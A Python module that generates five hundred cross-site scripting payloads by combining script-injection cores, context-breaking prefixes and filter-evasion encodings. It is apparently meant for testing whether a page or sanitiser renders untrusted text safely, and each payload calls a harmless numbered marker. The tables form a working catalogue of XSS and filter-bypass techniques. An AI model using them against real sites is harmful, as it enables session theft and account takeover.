"""Five hundred texts that would run, or be drawn as markup, on a page that shows them carelessly. All made here.

Each calls a name of its own, so that it can be told which one ran: `window.ran(n)`.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import islice, product

# What would run, in the ways that browsers know. {call} is the call.
CORES = (
    "<script>{call}</script>", "<ScRiPt >{call}</sCrIpT >", "<script/x>{call}</script>", "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'>", "<svg onload={call}>", "<svg/onload={call}//", "<svg><script>{call}</script></svg>",
    "<body onload={call}>", "<iframe srcdoc='<script>parent.{call}</script>'></iframe>", "<iframe src=javascript:{call}>",
    "<a href=javascript:{call} id=lure>x</a>", "<details open ontoggle={call}>x</details>", "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>", "<math><mtext><script>{call}</script></mtext></math>",
    "<object data='data:text/html,<script>{call}</script>'></object>", "<embed src=javascript:{call}>",
    "<form action=javascript:{call}><button autofocus id=lure>x</button></form>", "<style>@import 'javascript:{call}'</style>",
    "<meta http-equiv=refresh content='0;javascript:{call}'>", "<base href='javascript:{call}//'>",
    "<link rel=stylesheet href='javascript:{call}'>", "<marquee onstart={call}>x</marquee>", "javascript:{call}",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<template><script>{call}</script></template>",
    "{{{{constructor.constructor('{call}')()}}}}", "{{% raw %}}<script>{call}</script>{{% endraw %}}", "${{{call}}}",
    "<x onclick={call} tabindex=1 id=lure autofocus onfocus={call}>x</x>", "<div style='background:url(javascript:{call})'>x</div>",
)  # fmt: skip
# What must be left first, for the core to stand free: text, attributes, comments, scripts, styles, areas of text.
PLACES = (
    "{}", '">{}', "'>{}", "-->{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "]]>{}", "*/{}", "';{}//",
    '" onmouseover="{}', "' autofocus onfocus='{}", "</option></select>{}", "</p></li></ul></td></table>{}", "\\\";{}//", "`{}`",
    "\n\n{}", "</a></form></main>{}", "<!--><{}",
)  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def _wide(text: str) -> str:
    return text.translate({ord("<"): "\N{FULLWIDTH LESS-THAN SIGN}", ord(">"): "\N{FULLWIDTH GREATER-THAN SIGN}"})


ENCODINGS: tuple[Callable[[str], str], ...] = (
    str, lambda text: text.replace("<", "&lt;").replace(">", "&gt;"), _entities, lambda text: text.replace("<", "%3C"),
    lambda text: text.replace("<", "\\u003c"), lambda text: text.replace("<", "\\x3c"), _wide,
    lambda text: text.replace(" ", "/"), lambda text: text.replace(" ", "\t"), lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("<", "\u00bc"), lambda text: f"data:text/html;base64,{base64.b64encode(text.encode()).decode()}",
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """Return so many, each another; every core, place and encoding is among them."""
    return list(islice(_made(), count))


def _made() -> Iterator[str]:
    seen: set[str] = set()
    for core, place, encode in _order():
        made = encode(place.format(core.format(call=f"ran({len(seen)})")))
        if made not in seen:
            seen.add(made)
            yield made


def _order() -> Iterator[tuple[str, str, Callable[[str], str]]]:
    """Yield the plain ones first, then the others by turns, so that any five hundred hold some of all."""
    yield from ((core, place, str) for core, place in product(CORES, PLACES[:6]))
    every = list(product(range(len(CORES)), range(len(PLACES)), range(1, len(ENCODINGS))))
    for step in range(len(every)):
        core, place, encoding = every[step * 7919 % len(every)]
        yield CORES[core], PLACES[place], ENCODINGS[encoding]
